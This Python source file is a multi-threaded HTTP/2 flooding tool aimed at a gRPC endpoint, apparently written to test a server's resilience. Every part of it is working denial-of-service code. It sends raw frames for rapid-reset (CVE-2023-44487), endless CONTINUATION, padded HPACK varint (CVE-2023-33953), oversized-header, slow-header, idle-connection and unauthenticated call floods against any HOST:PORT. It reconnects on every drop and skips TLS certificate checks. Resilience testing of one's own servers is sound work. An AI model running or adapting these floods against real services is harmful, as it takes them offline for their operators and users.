# SPDX-License-Identifier: Apache-2.0
"""A hostile HTTP/2 client: sends one kind of flood until it is stopped, by raw frames and without a token.

    python http2_flood.py KIND HOST:PORT [--tls] [--connections N] [--seconds S] [--source ADDRESS]

Prints "flooding" when it has begun, and at the end a JSON line: bytes sent and received, connections opened, and how
often the peer refused or closed one.
"""

from __future__ import annotations

import argparse
import itertools
import json
import socket
import ssl
import threading
import time
from collections import Counter
from collections.abc import Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
MAX_FRAME_BYTES = 16384
# One write. Small enough that a flood of several connections takes turns.
WRITE_BYTES = 65536
TIMEOUT_S = 5.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def text(value: bytes) -> bytes:
    """A string of HPACK without Huffman's code; its length is a varint with a prefix of 7 bits."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return length + bytes([rest]) + value


def field(name: bytes, value: bytes) -> bytes:
    """A header that enters no table, so that the same bytes do on every connection."""
    return b"\x00" + text(name) + text(value)


def request_block(is_tls: bool, path: bytes = b"/ema.v1.EmaService/ListModels") -> bytes:
    """The headers of a gRPC call. 0x83 is POST in HPACK's static table, 0x86 http and 0x87 https."""
    block = b"\x83" + (b"\x87" if is_tls else b"\x86") + b"\x04" + text(path)
    block += b"\x01" + text(b"edge")
    return block + field(b"content-type", b"application/grpc") + field(b"te", b"trailers")


def hello() -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0)


def resets(is_tls: bool, stream_count: int = 50_000) -> Iterator[bytes]:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    block = request_block(is_tls)
    yield hello()
    for first in range(1, 2 * stream_count, 1000):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, block)
            + frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
            for stream in range(first, first + 1000, 2)
        )


def endless(block: bytes, filler: bytes) -> Iterator[bytes]:
    """Headers that never end: CONTINUATION frames of `filler` after `block`."""
    yield hello() + frame(HEADERS, 0, 1, block)
    more = frame(CONTINUATION, 0, 1, filler) * (WRITE_BYTES // MAX_FRAME_BYTES)
    yield from itertools.repeat(more)


def continuation(is_tls: bool) -> Iterator[bytes]:
    """A new small header after another."""
    one = field(b"x-flood", b"y" * 50)
    yield from endless(request_block(is_tls), one * (MAX_FRAME_BYTES // len(one)))


def varint(is_tls: bool) -> Iterator[bytes]:
    """A number of HPACK that is padded with zeros for ever (CVE-2023-33953)."""
    yield from endless(request_block(is_tls) + b"\x00\x7f", b"\x80" * MAX_FRAME_BYTES)


def oversized(is_tls: bool, request_count: int = 1000) -> Iterator[bytes]:
    """Requests with 60 KiB of headers each."""
    large = b"".join(field(b"x-large-%d" % i, b"z" * 1000) for i in range(60))
    yield hello()
    for stream in range(1, 2 * request_count, 2):
        parts = [large[at : at + MAX_FRAME_BYTES] for at in range(0, len(large), MAX_FRAME_BYTES)]
        sent = frame(HEADERS, END_STREAM, stream, request_block(is_tls))
        sent += b"".join(frame(CONTINUATION, 0, stream, part) for part in parts[:-1])
        yield sent + frame(CONTINUATION, END_HEADERS, stream, parts[-1])


def calls(is_tls: bool, request_count: int = 50_000) -> Iterator[bytes]:
    """Whole calls without a token, as fast as they go."""
    block = request_block(is_tls)
    yield hello()
    for first in range(1, 2 * request_count, 200):
        yield b"".join(
            frame(HEADERS, END_HEADERS, stream, block)
            + frame(DATA, END_STREAM, stream, b"\x00" * 5)
            for stream in range(first, first + 200, 2)
        )


def slow(is_tls: bool) -> Iterator[bytes]:
    """A byte of a request's headers every second."""
    yield hello()
    for byte in frame(HEADERS, END_HEADERS, 1, request_block(is_tls)):
        time.sleep(1)
        yield bytes([byte])


def idle(is_tls: bool) -> Iterator[bytes]:
    """A connection without a request."""
    yield hello()
    while True:
        time.sleep(1)
        yield b""


KINDS = {
    kind.__name__: kind for kind in (resets, continuation, varint, oversized, calls, slow, idle)
}


class Flood:
    """Threads that each hold one connection and open another when the peer has closed it."""

    def __init__(
        self, kind: str, address: str, connections: int, is_tls: bool, source: str = "127.0.0.1"
    ) -> None:
        host, port = address.rsplit(":", 1)
        self._kind, self._address, self._is_tls = kind, (host, int(port)), is_tls
        self._source = source
        self._stopping = threading.Event()
        self.counts: Counter[str] = Counter()
        # Made once: the flood's own work must not be what slows the machine down.
        self._prepared = list(resets(is_tls)) if kind == "resets" else None
        self._threads = [threading.Thread(target=self._run) for _ in range(connections)]

    def __enter__(self) -> Flood:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stopping.set()
        for thread in self._threads:
            thread.join()

    def _run(self) -> None:
        while not self._stopping.is_set():
            try:
                with self._connect() as peer:
                    self.counts["connections"] += 1
                    self._send(peer)
            except OSError:
                self.counts["closed"] += 1
                self._stopping.wait(0.01)

    def _connect(self) -> socket.socket:
        plain = socket.create_connection(self._address, TIMEOUT_S, (self._source, 0))
        if not self._is_tls:
            return plain
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        try:
            return context.wrap_socket(plain)
        except OSError:
            plain.close()
            raise

    def _send(self, peer: socket.socket) -> None:
        for part in self._prepared or KINDS[self._kind](self._is_tls):
            if self._stopping.is_set():
                return
            peer.settimeout(TIMEOUT_S)
            peer.sendall(part)
            self.counts["bytes"] += len(part)
            self._discard_replies(peer)

    def _discard_replies(self, peer: socket.socket) -> None:
        peer.settimeout(0)
        try:
            while reply := peer.recv(WRITE_BYTES):
                self.counts["received_bytes"] += len(reply)
        except (BlockingIOError, ssl.SSLWantReadError):
            return
        raise ConnectionResetError("closed by the peer")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("address")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--source", default="127.0.0.1")
    options = parser.parse_args()
    with Flood(
        options.kind, options.address, options.connections, options.tls, options.source
    ) as flood:
        print("flooding", flush=True)
        time.sleep(options.seconds)
    print(json.dumps(flood.counts))


if __name__ == "__main__":
    main()
